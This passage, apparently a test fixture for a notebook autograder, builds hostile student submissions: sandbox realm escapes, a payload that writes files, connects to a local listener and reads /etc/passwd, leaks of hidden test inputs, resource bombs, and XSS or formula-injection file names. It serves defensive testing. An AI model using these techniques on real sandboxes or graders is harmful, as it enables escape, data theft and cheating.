/**
 * Attacks on the rewritten grader (issue 13), as a student who has read grader/ would write them,
 * against the toy assignment (test/fixtures/grader/toy: scale 2 points, init_weights 1, scale_all 1,
 * scale_all calling scale, tested in that order). Each case is written so that success would be
 * visible: an attack that worked returns the right value (so the function scores), or puts a hidden
 * input into a report, or writes a marker file, or sends to the listener on ATTACK_PORT; otherwise it
 * returns a wrong value or throws. `score` is what an honest grader gives the notebook; `absent`
 * lists text that must not appear in any report of the submission (leaked hidden inputs, reference
 * code). The toy's hidden inputs include k = -0.5 (scale, case 2); the leak attacks encode it.
 */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { HostileCase, loadToySource, withCell, withSolution } from './hostile';

/** A listener the test starts on 127.0.0.1: it must receive nothing. */
export const ATTACK_PORT = 47913;
/** Files an escaped submission would create; the test checks none exists. */
export const MARKER_PREFIX = '/tmp/tsdl-pwned-';
/** Files outside the repo that attacks 42-43 try to read through the trusted compiler. */
export const SECRET_DIR = '/tmp/tsdl-attack-secret';

export interface AttackCase extends HostileCase {
  /** What the attack tries (for the report). */
  what: string;
  /** Text that must not appear in any report (JSON, HTML, CSV, gradebook) or in stdout/stderr. */
  absent?: RegExp[];
  /** Skipped by the CLI test (too slow or too big for the shared machine); kept for the record. */
  slow?: boolean;
  /** Text that must not appear unescaped in the submission's HTML page. */
  absentInHtml?: RegExp[];
  /** Upper bound on each of this submission's report files (JSON, HTML). */
  maxReportBytes?: number;
}

type Notebook = ReturnType<typeof loadToySource>;
type Cell = Notebook['cells'][number];

const SCALE = 'function scale(x: NDArray, k: number): NDArray { return x.mul(k); }';
const INIT = 'function init_weights(n: number, m: number): Params { np.random.seed(3); return { W: np.random.randn(n, m).mul(0.01), b: np.zeros([n, 1]) }; }';
const SCALE_ALL = 'function scale_all(p: Params, k: number): Params { const out: Params = {}; for (const key of Object.keys(p)) out[key] = scale(p[key], k); return out; }';

const graded = (fn: string, code: string): string => `// GRADED FUNCTION: ${fn}\n${code}`;
const codeCell = (source: string, id: string): Cell => ({ cell_type: 'code', id, metadata: {}, source, outputs: [], execution_count: null });

/** Encodes a number's text in letters, which the feedback's number masking does not touch. */
const LETTERS = "const letters = (v: number): string => String(v).replace(/[0-9.-]/g, (c) => (c === '-' ? 'm' : c === '.' ? 'p' : 'abcdefghij'[Number(c)]));";

/** The case whose file name carries terminal control sequences; the test also grades it in a batch small enough for the summary to list it. */
export const TERMINAL_FILE = 'atk-35-terminal-\u001b[2J\u001b]0;pwned\u0007\nfake 4 - 4.ipynb';

/** Marker path for an attack named `name`. */
export const marker = (name: string): string => `${MARKER_PREFIX}${name}`;

/** Everything an escaped submission would do at once: marker file, TCP, UDP and HTTP to the listener. */
function payload(name: string): string {
  return `(P: any): string => {
    const req = P.mainModule ? P.mainModule.require.bind(P.mainModule) : P.getBuiltinModule;
    const said: string[] = ['ESCAPED'];
    try { req('fs').writeFileSync('${marker(name)}', 'x'); said.push('wrote'); } catch (e) { said.push('fs:' + String((e as Error).message).slice(0, 40)); }
    try { req('net').connect(${ATTACK_PORT}, '127.0.0.1').on('error', () => 0).end('${name}'); said.push('tcp'); } catch { /* */ }
    try { req('dgram').createSocket('udp4').send('${name}', ${ATTACK_PORT}, '127.0.0.1', () => 0); said.push('udp'); } catch { /* */ }
    try { said.push('passwd:' + req('fs').readFileSync('/etc/passwd', 'utf8').slice(0, 20)); } catch { /* */ }
    return said.join(' ');
  }`;
}

const nb = (file: string, what: string, make: () => Notebook, score: AttackCase['score'], extra: Partial<AttackCase> = {}): AttackCase => ({
  file, what, score, ...extra, write: (dir) => fs.writeFileSync(path.join(dir, file), JSON.stringify(make())),
});

/** Whole-notebook helper: the toy source with each named graded cell replaced. */
function withCells(cells: Record<string, string>, base = loadToySource()): Notebook {
  let n = base;
  for (const [fn, src] of Object.entries(cells)) n = withCell(fn, src, n);
  return n;
}

export function attackCases(): AttackCase[] {
  const cases: AttackCase[] = [
    // ---------------------------------------------------------------- controls
    nb('atk-00-control-correct.ipynb', 'honest control: the source itself', () => loadToySource(), 4),
    nb('atk-00-control-stub.ipynb', 'honest control: every solution removed (the released stub)', () => {
      let n = withSolution('scale', '');
      n = withSolution('init_weights', '', n);
      return withSolution('scale_all', '', n);
    }, 0),

    // ---------------------------------------------------------------- (e) realm escapes
    nb('atk-01-caller-chain-setter.ipynb',
      'exports target given a prototype with a sloppy setter for `scale` (Object.setPrototypeOf on the exports Proxy forwards to its target); useReferences assigns the reference through it, outside the time limit; the setter walks .caller/.arguments to the bridge and its constructor',
      () => withCell('scale_all', graded('scale_all', `${SCALE_ALL}
const said: string[] = [];
const mine = exports.scale;
delete exports.scale;
const spy = Function('said', 'escape', \`return function (v) {
  var c = arguments.callee.caller;
  said.push('caller:' + typeof c);
  try { var a = c && c.arguments; said.push('args:' + (a ? a.length : 'none'));
    for (var i = 0; a && i < a.length; i++) if (typeof a[i] === 'function') { try { said.push(escape(a[i].constructor('return process')())); } catch (e) { said.push('F:' + e.message); } } } catch (e) { said.push('A:' + e.message); }
  try { var cc = c && c.caller; said.push('cc:' + typeof cc); if (cc) said.push(escape(cc.constructor('return process')())); } catch (e) { said.push('C:' + e.message); }
}\`)(said, ${payload('caller-chain')});
Object.setPrototypeOf(exports, Object.defineProperty({}, 'scale', { get: () => mine, set: spy, configurable: true }));
const honest = scale_all;
exports.scale_all = (p: Params, k: number): Params => { if (said.some((s) => s.startsWith('ESCAPED'))) return honest(p, k); throw new Error(said.join(' | ').slice(0, 250)); };`)),
      // The exports object refuses deleting and prototype changes: the cell stops at its top level,
      // its (correct) scale_all still graded.
      4, { feedback: { scale_all: /1 of 1 hidden tests passed/ }, absent: [/ESCAPED/] }),

    nb('atk-02-stack-overflow-bridge.ipynb',
      'recursion to the stack limit, then a call of the reference callee: a RangeError made by the outer realm (the bridge function) caught by student code gives the outer Function',
      () => withCell('scale_all', graded('scale_all', `function scale_all(p: Params, k: number): Params {
  let outer: any = null;
  let tries = 0;
  const one = np.ones([1, 1]);
  // Each level that overflows retries the reference call one frame shallower, until the overflow
  // happens inside the bridge (the sandbox process's own function) rather than in this realm.
  const probe = (): void => {
    try { probe(); } catch (e) {
      if (outer) return;
      tries++;
      try { scale(one, 1); } catch (e2) { if (!(e2 instanceof Error)) { outer = e2; return; } throw e2; }
    }
  };
  try { probe(); } catch { /* every level overflowed in this realm */ }
  if (!outer) throw new Error('no outer error after ' + tries + ' tries');
  const P = outer.constructor.constructor('return process')();
  const said = (${payload('stack-overflow')})(P);
  const out: Params = {};
  for (const key of Object.keys(p)) out[key] = p[key].mul(k);
  if (said.startsWith('ESCAPED')) return out;
  throw new Error(said);
}`)), 3, { absent: [/ESCAPED/] }),

    nb('atk-03-constructor-constructor.ipynb',
      'constructor.constructor of everything reachable (exports, require, np, NDArray, console, the reference callee, errors thrown by the library) to find a Function of another realm',
      () => withCell('scale', graded('scale', `function scale(x: NDArray, k: number): NDArray {
  const found: string[] = [];
  const tryOne = (label: string, o: any): void => {
    try { const P = o.constructor.constructor('return typeof process === "object" ? process : null')(); if (P && P.pid) found.push((${payload('constructor')})(P)); } catch { /* */ }
  };
  tryOne('exports', exports); tryOne('require', require); tryOne('np', np); tryOne('x', x); tryOne('sum', np.sum);
  tryOne('console', console.log); tryOne('global', globalThis);
  try { np.ones([2]).reshape(3); } catch (e) { tryOne('liberr', e); }
  try { (null as any).x; } catch (e) { tryOne('typeerr', e); }
  try { require('fs'); } catch (e) { tryOne('requireerr', e); }
  if (found.length) return x.mul(k);
  return x.mul(k).add(1);
}`)), 2, { feedback: { scale: /0 of 2 hidden tests passed/ }, absent: [/ESCAPED/] }),

    nb('atk-04-prepare-stack-trace.ipynb',
      'Error.prepareStackTrace (direct, Reflect.set, defineProperty, on a subclass) to get CallSite objects whose getFunction/getThis lead out of the realm',
      () => withCell('scale', graded('scale', `function scale(x: NDArray, k: number): NDArray {
  const got: any[] = [];
  const hook = (_e: unknown, sites: any[]): string => { for (const s of sites) { try { got.push(s.getThis(), s.getFunction()); } catch { /* */ } } return 'x'; };
  try { (Error as any).prepareStackTrace = hook; } catch { /* */ }
  try { Reflect.set(Error, 'prepareStackTrace', hook); } catch { /* */ }
  try { Object.defineProperty(Error, 'prepareStackTrace', { value: hook }); } catch { /* */ }
  class E extends Error {}
  try { (E as any).prepareStackTrace = hook; } catch { /* */ }
  const o: any = {};
  try { Error.captureStackTrace(o); void o.stack; } catch { /* */ }
  void new E('x').stack; void new Error('y').stack;
  for (const f of got) { try { const P = f && f.constructor && f.constructor.constructor('return process')(); if (P && P.pid) { (${payload('prepare-stack')})(P); return x.mul(k); } } catch { /* */ } }
  return x.mul(k).add(1);
}`)), 2, { absent: [/ESCAPED/] }),

    nb('atk-05-inspect-symbol.ipynb',
      'Symbol.for("nodejs.util.inspect.custom") and toJSON/toString/valueOf/Symbol.toPrimitive traps on the returned value and on a thrown error, hoping the sandbox process or the worker formats them with its own inspect (an outer function as argument); case 2 checks whether case 1 traps ran',
      () => withCell('scale', graded('scale', `const seen: string[] = [];
function scale(x: NDArray, k: number): NDArray {
  if (seen.length) return x.mul(k);
  // A trap called by another realm's formatter gets functions of that realm as arguments.
  const trap = (label: string) => function (this: unknown, ...a: unknown[]) { for (const v of a) if (typeof v === 'function' && !(v instanceof Function)) { seen.push(label); try { (${payload('inspect')})((v as any).constructor('return process')()); } catch { /* */ } } return 'x'; };
  const bait: any = { toJSON: trap('toJSON'), toString: trap('toString'), valueOf: trap('valueOf') };
  bait[Symbol.for('nodejs.util.inspect.custom')] = trap('inspect');
  bait[Symbol.toPrimitive] = trap('prim');
  const err: any = new Error('bait');
  Object.defineProperty(err, 'name', { get: trap('name') });
  err[Symbol.for('nodejs.util.inspect.custom')] = trap('inspect-err');
  if (k === 3) throw err;
  return bait;
}`)), 2, { feedback: { scale: /0 of 2 hidden tests passed/ }, absent: [/ESCAPED/] }),

    nb('atk-06-thenable-callbacks.ipynb',
      'a Promise with its own then: the runtime hands its settle/fail callbacks to student code; look for other-realm objects on them and call them out of order (fail, then settle, then again from a later case)',
      () => withCell('scale', graded('scale', `let stash: any[] = [];
function scale(x: NDArray, k: number): NDArray {
  for (const f of stash) { try { const P = f.constructor('return process')(); if (P && P.pid) { (${payload('thenable')})(P); return x.mul(k); } } catch { /* */ } }
  const p: any = Promise.resolve(x.mul(k).add(1));
  Object.defineProperty(p, 'then', { value(ok: any, bad: any) { stash = [ok, bad]; bad(new Error('first')); ok(x.mul(k).add(2)); return p; } });
  return p;
}`)), 2, { absent: [/ESCAPED/] }),

    nb('atk-07-global-interceptors.ipynb',
      "exceptions from vm's global-object interceptors (redefining locked globals, accessors on globalThis, deleting bindings) tested for another realm's Error",
      () => withCell('scale', graded('scale', `function scale(x: NDArray, k: number): NDArray {
  const g: any = globalThis;
  const errs: unknown[] = [];
  const attempt = (f: () => void): void => { try { f(); } catch (e) { errs.push(e); } };
  attempt(() => { g.Math = 1; });
  attempt(() => Object.defineProperty(g, 'Math', { get() { return 1; } }));
  attempt(() => { delete g.__tsdl_go; });
  attempt(() => Object.defineProperty(g, '__tsdl_cell', { value: 1 }));
  attempt(() => Object.setPrototypeOf(g, null));
  attempt(() => Object.defineProperty(g, 'x', { get: 1 as any }));
  attempt(() => Reflect.ownKeys(new Proxy(g, {})));
  attempt(() => { Object.freeze(g); });
  for (const e of errs) {
    if (e instanceof Error) continue;
    try { const P = (e as any).constructor.constructor('return process')(); (${payload('interceptors')})(P); return x.mul(k); } catch { /* */ }
  }
  return x.mul(k).add(1);
}`)), 2, { absent: [/ESCAPED/] }),

    nb('atk-08-global-prototype.ipynb',
      "the realm's global object and its prototype chain, Object.getOwnPropertyDescriptors of globalThis, and the functions behind __tsdl_cell/__tsdl_go: .caller/.arguments of the sloppy runtime functions (the realm bundle is not strict code)",
      () => withCell('scale', graded('scale', `function scale(x: NDArray, k: number): NDArray {
  const outs: any[] = [];
  const peek = Function('fns', 'var r = []; for (var i = 0; i < fns.length; i++) { try { r.push(fns[i].caller, fns[i].arguments); } catch (e) {} } return r;');
  const g: any = globalThis;
  for (let o = Object.getPrototypeOf(g); o; o = Object.getPrototypeOf(o)) outs.push(o);
  for (const d of Object.values(Object.getOwnPropertyDescriptors(g))) outs.push(d.value, d.get, d.set);
  const callerOf = Function('return arguments.callee.caller')();
  outs.push(callerOf, ...peek([g.__tsdl_go, g.__tsdl_cell && g.__tsdl_cell.run, callerOf]));
  for (const o of outs.flat ? outs.flat() : outs) {
    if (!o || (typeof o !== 'object' && typeof o !== 'function')) continue;
    try { const P = o.constructor.constructor('return process')(); if (P && P.pid) { (${payload('global-proto')})(P); return x.mul(k); } } catch { /* */ }
    if (typeof o === 'object' && o[0] && typeof o[0] === 'function') { try { const P = o[0].constructor('return process')(); if (P && P.pid) return x.mul(k); } catch { /* */ } }
  }
  return x.mul(k).add(1);
}`)), 2, { absent: [/ESCAPED/] }),

    // ---------------------------------------------------------------- (c) network and files
    nb('atk-09-network-builtins.ipynb',
      'network by every name: require/import of net, http, dgram, node:net; fetch and WebSocket globals; process.binding; getBuiltinModule',
      () => withCell('scale', graded('scale', `async function scale(x: NDArray, k: number): Promise<NDArray> {
  let reached = 0;
  const g: any = globalThis;
  for (const name of ['net', 'node:net', 'http', 'dgram', 'tls', 'http2', 'worker_threads', 'child_process']) {
    try { const m: any = require(name); m.connect?.(${ATTACK_PORT}, '127.0.0.1'); m.get?.('http://127.0.0.1:${ATTACK_PORT}/'); m.createSocket?.('udp4').send('x', ${ATTACK_PORT}, '127.0.0.1'); reached++; } catch { /* */ }
  }
  try { await g.fetch('http://127.0.0.1:${ATTACK_PORT}/fetch'); reached++; } catch { /* */ }
  try { new g.WebSocket('ws://127.0.0.1:${ATTACK_PORT}/'); reached++; } catch { /* */ }
  try { g.process.binding('tcp_wrap'); reached++; } catch { /* */ }
  try { g.process.getBuiltinModule('net').connect(${ATTACK_PORT}, '127.0.0.1'); reached++; } catch { /* */ }
  try { await import('net'); reached++; } catch { /* */ }
  return reached ? x.mul(k) : x.mul(k).add(1);
}`)), 2, { feedback: { scale: /0 of 2 hidden tests passed/ } }),

    nb('atk-10-files-by-library.ipynb',
      "files through the course library's own file helpers (np.load/np.save/datasets loaders, Buffer.from on a string) and through the realm's builtin stand-ins (crypto, os, util)",
      () => withCell('scale', graded('scale', `function scale(x: NDArray, k: number): NDArray {
  let reached = 0;
  const anyNp: any = np;
  for (const f of ['load', 'save', 'loadtxt', 'savetxt', 'fromfile', 'tofile']) {
    try { const r = anyNp[f]?.('/etc/passwd', x); if (r !== undefined) reached++; } catch { /* */ }
  }
  for (const mod of ['tsdl/lib/datasets', 'fs', 'os', 'crypto', 'util', 'path']) {
    try { const m: any = require(mod); for (const v of Object.values(m)) { try { if (typeof v === 'function' && String((v as any)('/etc/passwd')).includes('root:')) reached++; } catch { /* */ } } } catch { /* */ }
  }
  return reached ? x.mul(k) : x.mul(k).add(1);
}`)), 2, { absent: [/root:x:0/] }),

    // ---------------------------------------------------------------- code outside the time limit
    nb('atk-11-setter-spins-outside-limit.ipynb',
      "a setter on the exports target's prototype that spins forever: useReferences runs it with no time limit (only the request's wall clock stops it)",
      () => withCell('scale_all', graded('scale_all', `${SCALE_ALL}
const mine = exports.scale;
delete exports.scale;
Object.setPrototypeOf(exports, Object.defineProperty({}, 'scale', { get: () => mine, set() { for (;;) { /* spin */ } }, configurable: true }));`)),
      4, { feedback: { scale: /2 of 2 hidden tests passed/, init_weights: /2 of 2 hidden tests passed/, scale_all: /1 of 1 hidden tests passed/ } }),

    nb('atk-12-finalization-registry.ipynb',
      "a FinalizationRegistry callback that spins: it runs as a task of the sandbox process after scale's test, outside any vm time limit, and blocks the next function's test (init_weights, which is correct)",
      () => withCell('scale', graded('scale', `const keep: unknown[] = [];
function scale(x: NDArray, k: number): NDArray {
  const reg = new FinalizationRegistry(() => { for (;;) { /* spin */ } });
  keep.push(reg);
  for (let i = 0; i < 2000; i++) reg.register({ junk: new Array(1000).fill(i) }, i);
  for (let i = 0; i < 200; i++) keep.push(new Array(100000).fill(i).length);
  return x.mul(k);
}`)), 4, { feedback: { init_weights: /2 of 2 hidden tests passed/, scale_all: /1 of 1 hidden tests passed/ } }),

    nb('atk-13-waitasync-continuation.ipynb',
      'Atomics.waitAsync and WebAssembly.compile continuations queued in the realm: they run at a later evaluation, spinning there',
      () => withCell('scale', graded('scale', `let armed = false;
function scale(x: NDArray, k: number): NDArray {
  if (!armed) {
    armed = true;
    const r: any = (Atomics as any).waitAsync(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);
    if (r.async) r.value.then(() => { for (;;) { /* spin */ } });
    (globalThis as any).WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { for (;;) { /* spin */ } });
  }
  return x.mul(k);
}`)), (s) => s >= 2, { feedback: { init_weights: /2 of 2 hidden tests passed/, scale_all: /1 of 1 hidden tests passed/ } }),

    nb('atk-14-unhandled-rejection.ipynb',
      "an async result whose serialization throws in a microtask (a revoked Proxy): an unhandled rejection, which by Node's default ends the sandbox process",
      () => withCell('scale', graded('scale', `async function scale(x: NDArray, k: number): Promise<NDArray> {
  const r = Proxy.revocable({}, {});
  r.revoke();
  void Promise.reject(new Error('nobody catches this'));
  return r.proxy as unknown as NDArray;
}`)), 2, { feedback: { init_weights: /2 of 2 hidden tests passed/, scale_all: /1 of 1 hidden tests passed/ } }),

    // ---------------------------------------------------------------- (a) unearned points / (f) state between functions
    nb('atk-15-state-between-functions.ipynb',
      "state left by scale's test for init_weights' test: globals, Symbol.for registry, np module state (seed, print options), a typed array of the library, Error.stackTraceLimit",
      () => withCells({
        scale: graded('scale', `function scale(x: NDArray, k: number): NDArray {
  (globalThis as any).__left = 1;
  np.random.seed(12345);
  try { (Error as any).stackTraceLimit = 0; } catch { /* */ }
  Symbol.for('tsdl-left-by-scale');
  return x.mul(k);
}`),
        init_weights: graded('init_weights', `function init_weights(n: number, m: number): Params {
  const left = (globalThis as any).__left === 1 || (Error as any).stackTraceLimit === 0;
  np.random.seed(3);
  const W = np.random.randn(n, m).mul(0.01);
  return { W: left ? W : W.add(1), b: np.zeros([n, 1]) };
}`),
      }), 3, { feedback: { init_weights: /0 of 2 hidden tests passed/ } }),

    nb('atk-16-exports-proto-reference-capture.ipynb',
      "the exports target's prototype catches useReferences' assignment: the test of scale_all keeps the student's (wrong) scale instead of the reference, and scale_all's score then depends on scale",
      () => withCells({
        scale: graded('scale', 'function scale(x: NDArray, k: number): NDArray { return x.add(k); }'),
        scale_all: graded('scale_all', `${SCALE_ALL}
const mine = exports.scale;
delete exports.scale;
let ref: unknown = null;
Object.setPrototypeOf(exports, Object.defineProperty({}, 'scale', { get: () => ref ?? mine, set(v: unknown) { ref = v; }, configurable: true }));`),
      }), 2, { feedback: { scale: /k was added/, scale_all: /1 of 1 hidden tests passed/ } }),

    nb('atk-17-define-graded-in-helper-getter.ipynb',
      'exports.scale_all defined as an accessor by a later cell: the defineProperty trap calls the getter at define time, and the value must be the one graded',
      () => {
        const n = withCell('scale_all', graded('scale_all', 'function scale_all(p: Params, k: number): Params { return p; }'));
        n.cells.push(codeCell(`let calls = 0;\nObject.defineProperty(exports, 'scale_all', { get() { calls++; return calls > 1 ? (p: Params) => p : (p: Params, k: number) => { const o: Params = {}; for (const key of Object.keys(p)) o[key] = p[key].mul(k); return o; }; }, configurable: true });`, 'getter'));
        return n;
      }, (s) => s === 3 || s === 4),

    nb('atk-18-reference-source.ipynb',
      "the reference callee's source: Function.prototype.toString of exports.scale, its .caller/.arguments, and V8's error text when the reference is called with arguments it cannot handle ('x.mul is not a function' quotes the reference's code)",
      () => withCell('scale_all', graded('scale_all', `function scale_all(p: Params, k: number): Params {
  const said: string[] = [];
  try { said.push(String(scale).slice(0, 60)); } catch { /* */ }
  try { scale({} as unknown as NDArray, k); } catch (e) { said.push(String((e as Error).message)); }
  try { scale(p.W, ({ a: 1 } as unknown) as number); } catch (e) { said.push(String((e as Error).message)); }
  throw new Error(said.join(' | '));
}`)), 3, { absent: [/x\.mul is not a function/, /\.mul\(k\)/] }),

    nb('atk-19-random-state-into-reference.ipynb',
      "a malformed np.random state handed to the reference realm with the call (set_state with a huge position / wrong key length before calling the reference): break the reference realm or make it report a grader error ('not your mistake', re-graded)",
      () => withCell('scale_all', graded('scale_all', `function scale_all(p: Params, k: number): Params {
  const r: any = np.random;
  try { r.set_state(['MT19937', new Array(624).fill(0), 1e9, 0, 0]); } catch { /* */ }
  const out: Params = {};
  for (const key of Object.keys(p)) out[key] = scale(p[key], k).add(1);
  return out;
}`)), 3, { feedback: { scale_all: /0 of 1 hidden tests passed/ } }),

    // ---------------------------------------------------------------- (b) hidden inputs into reports
    nb('atk-20-leak-letters.ipynb', 'hidden input k spelled in letters in an error message (the masking only replaces digits)',
      () => withSolution('scale', `${LETTERS}\n  throw new Error('LEAK20 ' + letters(k));`), 2), // letters for digits: not defended (threat model)
    nb('atk-21-leak-fullwidth.ipynb', 'hidden input k in fullwidth digits (not matched by \\d)',
      () => withSolution('scale', "throw new Error('LEAK21 ' + String(k).replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d))));"), 2, { absent: [/LEAK21 -\uff10\.\uff15/] }),
    nb('atk-22-leak-small-integers.ipynb', 'hidden input k scaled to a whole number under 10000 (left unmasked)',
      () => withSolution('scale', "throw new Error('LEAK22 ' + Math.round(k * 10000));"), 2), // a scaled whole number under 10000: not defended (threat model)
    nb('atk-23-leak-error-name.ipynb', "hidden input k in the error's name",
      () => withSolution('scale', `${LETTERS}\n  const e = new Error('x'); Object.defineProperty(e, 'name', { value: 'LEAKxxiii' + letters(k) }); throw e;`), 2, { absent: [/LEAKxxiiimapf/] }),
    nb('atk-24-leak-constructor-name.ipynb', "hidden input k as the constructor name of the returned object's prototype (serialize.ts's 'an instance of <name>' is not masked)",
      () => withSolution('scale', "y = Object.create({ constructor: { name: 'LEAK24 ' + String(k) + ' ' + String(x) } }) as NDArray;"), 2, { absent: [/LEAK24 -0\.5/] }),
    nb('atk-25-leak-shape.ipynb', 'hidden input k in the dimensions of an empty array (the shape message is not masked; a leading 0 keeps the size at 0)',
      () => withSolution('scale', 'y = np.zeros([0, Math.round((k + 10) * 1000), 1 + Math.round(Math.abs(k) * 1e6)]);'), 2, { absent: [/\(0, 9500, 500001\)/] }),
    nb('atk-26-leak-list-length.ipynb', "hidden input k as the length of a returned list ('got a list of N')",
      () => withSolution('scale', 'y = new Array(Math.round((k + 10) * 1000)).fill(0) as unknown as NDArray;'), 2), // a length under 10000: not defended (threat model)
    nb('atk-27-leak-through-reference-error.ipynb', "scale_all's hidden input through the reference's error: p.b's values as the shape handed to the reference (its error text echoes them)",
      () => withCell('scale_all', graded('scale_all', `${LETTERS}
function scale_all(p: Params, k: number): Params {
  const v = Array.from(p.b.values() as ArrayLike<number>);
  throw new Error('LEAK27 ' + v.map((n) => letters(n * k)).join('-'));
}`)), 3), // letters for digits: not defended (threat model)

    // ---------------------------------------------------------------- (d) the trusted side
    nb('atk-28-huge-result-frame.ipynb', 'results near the 64 MB frame limit on every case (30 arrays of 1M elements): the trusted worker parses and decodes each',
      () => withSolution('scale', 'const big = np.zeros([1000, 1000]); y = Array.from({ length: 30 }, () => big) as unknown as NDArray;'), 2,
      { feedback: { init_weights: /2 of 2 hidden tests passed/ } }),
    nb('atk-29-late-binding-shadowing.ipynb', 'thousands of local names, then nested blocks that each declare one: bindThroughExports copies the whole set of shadowed names at every block (names x blocks) on the trusted main thread, after compiling and with no time limit',
      () => withSolution('scale', `${Array.from({ length: 30000 }, (_, i) => `let v${i} = ${i};`).join(' ')}\n  ${'{ let a = 1; '.repeat(2000)}${'} '.repeat(2000)}\n  y = x.mul(k);`), (s) => s === 2 || s === 4, { slow: true }),
    nb('atk-29b-late-binding-stack.ipynb', 'blocks nested 3000 deep: bindThroughExports recurses once per level on the trusted main thread and overflows its stack; the submission becomes "grading failed ... not your mistake" instead of a compile or a result',
      () => withSolution('scale', `${'{ '.repeat(3000)}${'} '.repeat(3000)}\n  y = x.mul(k);`), (s) => s === 2 || s === 4, { slow: true }),
    nb('atk-30-compile-bomb.ipynb', 'a type-level compile bomb (two 3000-member unions assigned to each other): the cell must be stopped at its limit',
      () => withSolution('scale', `type A = ${Array.from({ length: 3000 }, (_, i) => `'a${i}'`).join(' | ')};
  type B = ${Array.from({ length: 3000 }, (_, i) => `{ k: 'a${i}' }['k']`).join(' | ')};
  const a: A = 'a1' as B; void a;
  y = x.mul(k);`), (s) => s === 2 || s === 4, { slow: true }),
    {
      file: 'atk-31-many-cells.ipynb', what: 'a notebook of 60 MB made of ~1.5 million tiny code cells: analyzeCell parses each on the trusted main thread (no time limit, no count limit)', score: 4, slow: true,
      write: (dir) => {
        const base = loadToySource();
        const fd = fs.openSync(path.join(dir, 'atk-31-many-cells.ipynb'), 'w');
        const tail = JSON.stringify(base.cells).slice(1, -1);
        fs.writeSync(fd, `{"metadata":${JSON.stringify(base.metadata)},"nbformat":4,"nbformat_minor":5,"cells":[${tail}`);
        const chunk = ',{"cell_type":"code","source":"0"}'.repeat(10000);
        for (let i = 0; i < 150; i++) fs.writeSync(fd, chunk);
        fs.writeSync(fd, ']}');
        fs.closeSync(fd);
      },
    },
    {
      file: 'atk-32-deep-metadata.ipynb', what: 'a notebook under the 64 MB limit whose metadata nests 30 million arrays: JSON.parse in the trusted worker builds them all', score: 4, slow: true,
      write: (dir) => {
        const base = loadToySource();
        const fd = fs.openSync(path.join(dir, 'atk-32-deep-metadata.ipynb'), 'w');
        fs.writeSync(fd, `{"cells":${JSON.stringify(base.cells)},"nbformat":4,"nbformat_minor":5,"metadata":{"deep":`);
        const n = 30_000_000, step = 1_000_000;
        for (let i = 0; i < n; i += step) fs.writeSync(fd, '['.repeat(step));
        for (let i = 0; i < n; i += step) fs.writeSync(fd, ']'.repeat(step));
        fs.writeSync(fd, '}}');
        fs.closeSync(fd);
      },
    },
    {
      file: 'atk-33-huge-code-cell.ipynb', what: 'one ungraded code cell of 60 MB of statements: analyzeCell builds its syntax tree on the trusted main thread', score: 4, slow: true,
      write: (dir) => {
        const n = loadToySource();
        n.cells.push(codeCell('x;'.repeat(28_000_000), 'huge'));
        fs.writeFileSync(path.join(dir, 'atk-33-huge-code-cell.ipynb'), JSON.stringify(n));
      },
    },

    // ---------------------------------------------------------------- intake and reports
    nb('=HYPERLINK("pwned","4").ipynb', "a file name that is a spreadsheet formula: the CSV's submission cell must not start with '='", () => loadToySource(), 4),
    nb(TERMINAL_FILE, "a file name with terminal escape sequences and a newline: tsdl grade's summary (printed for batches of up to 40) must not print them raw", () => loadToySource(), 4),
    nb('atk-36-html-in-error.ipynb', 'markup in an error message and in a returned object\'s constructor name: the HTML report must escape it',
      () => withSolution('scale', "if (k === 3) throw new Error('<img src=x onerror=alert(1)><script>alert(2)</script>'); y = Object.create({ constructor: { name: '<script>alert(3)</script>' } }) as NDArray;"), 2,
      { absentInHtml: [/<script>alert/, /<img src=x/] }),
    {
      file: 'atk-37-fifo.ipynb', what: 'a named pipe in the submissions folder: a reader that opened it would block forever', score: 0,
      feedback: { scale: /not a regular file/ },
      write: (dir) => { execFileSync('mkfifo', [path.join(dir, 'atk-37-fifo.ipynb')]); },
    },

    // ---------------------------------------------------------------- (f) layout and order
    nb('atk-38-helper-in-own-cell.ipynb', 'an honest layout: a helper function in its own cell, used by scale (Jupyter runs it; the grader must too)',
      () => {
        const n = withSolution('scale', 'y = times(x, k);');
        const at = n.cells.findIndex((c) => String(c.source).startsWith('// GRADED FUNCTION: scale'));
        n.cells.splice(at, 0, codeCell('function times(a: NDArray, b: number): NDArray { return a.mul(b); }', 'helper'));
        return n;
      // The documented rule (grader/README.md, "What a graded function sees"): helpers belong in the graded cell.
      }, 2, { feedback: { scale: /Cannot find name 'times'/ } }),
    nb('atk-39-constant-in-own-cell.ipynb', 'an honest layout: a constant defined in its own cell, used by init_weights',
      () => {
        const n = withCell('init_weights', graded('init_weights', 'function init_weights(n: number, m: number): Params { np.random.seed(SEED); return { W: np.random.randn(n, m).mul(0.01), b: np.zeros([n, 1]) }; }'));
        n.cells.splice(2, 0, codeCell('const SEED = 3;', 'seed'));
        return n;
      }, 3, { feedback: { init_weights: /SEED/ } }),
    nb('atk-40-redefined-later.ipynb', 'scale correct in its graded cell, redefined wrong in a later ordinary cell (Jupyter keeps the later one)',
      () => { const n = loadToySource(); n.cells.push(codeCell('function scale(x: NDArray, k: number): NDArray { return x.add(k); }', 'later')); return n; }, 2,
      { feedback: { scale: /k was added/ } }),
    nb('atk-41-merged-with-top-level-use.ipynb', 'all graded functions in one cell with top-level code that calls scale_all (uses the student\'s scale) and an alias of scale kept at top level',
      () => {
        const n = loadToySource();
        const gradedCells = n.cells.filter((c) => String(c.source).startsWith('// GRADED FUNCTION'));
        n.cells = [...n.cells.filter((c) => !gradedCells.includes(c)), codeCell(graded('scale', `${SCALE}\n${INIT}\n${SCALE_ALL}\nconst alias = scale;\nconsole.log(String(scale_all({ a: np.ones([1]) }, 2).a), String(alias(np.ones([1]), 3)));`), 'merged')];
        return n;
      }, 4),

    // ---------------------------------------------------------------- more, found while reading the code
    {
      file: 'atk-42-compiler-reads-json.ipynb', score: 2,
      what: "the trusted compiler (run as the grader's user, outside the sandbox) resolves an absolute import of any JSON file: its keys appear in the compile errors of the feedback",
      absent: [/tsdl_secret_key_7731/, /password_field_42/],
      write: (dir) => {
        fs.mkdirSync(SECRET_DIR, { recursive: true });
        fs.writeFileSync(path.join(SECRET_DIR, 'secret.json'), JSON.stringify({ tsdl_secret_key_7731: 'hunter2', nested: { password_field_42: 1 } }));
